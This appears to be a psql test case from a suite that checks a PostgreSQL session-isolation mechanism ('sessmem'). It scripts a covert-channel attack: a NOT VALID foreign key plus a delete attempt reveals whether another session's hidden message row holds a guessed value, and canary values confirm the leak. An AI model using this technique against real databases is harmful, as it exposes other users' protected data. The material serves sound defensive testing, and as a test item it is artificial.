-- vector: a foreign key from the protected table to one of the owner's own: whether a row there can be deleted says whether some row of another session has its value
-- class: covert
-- actor: attacker
-- precondition: the application's role owns the table
-- expected with sessmem: LEAK
-- stopped by: nothing: integrity checks see everything; a foreign key of such a kind is an everyday thing
-- severity: high
\i :adapter
\ir _sane.sql
\ir _app_owns.sql
\ir _ways.sql
create table plugin.g(content text primary key);
insert into plugin.g values ('{guess}'), ('CANARY-B-two'), ('CANARY-B-tw0');
insert into plugin.way(w, q, r)
select w, q, 'select ''done'''
from (values
  ('foreign key to his own table', $$alter table public.messages add foreign key (content) references plugin.g not valid; delete from plugin.g where content = '{guess}'$$)
) as v(w, q);
\set ways ?
\c - :app
begin; select t_bind('sess-A');
with o as materialized (
  select n, w, plugin.attempt(replace(q, '{guess}', 'CANARY-B-two'), r) as hit, plugin.attempt(replace(q, '{guess}', 'CANARY-B-tw0'), r) as miss from plugin.way)
select coalesce(string_agg(w, ', ' order by n) filter (where replace(hit, 'CANARY-B-two', '') <> replace(miss, 'CANARY-B-tw0', '')), '') as ways,
  string_agg(format('  %s: %s - %s', w, hit, miss), E'\n' order by n) as outcome from o \gset
rollback;
\warn :outcome
\ir _sane.sql
\c - :su
select :'ways' <> '' as leak, :'ways' as via, :'ways' = '?' as norun \gset
\if :norun
\set other 'attack code did not run'
\endif
\ir _verdict.sql
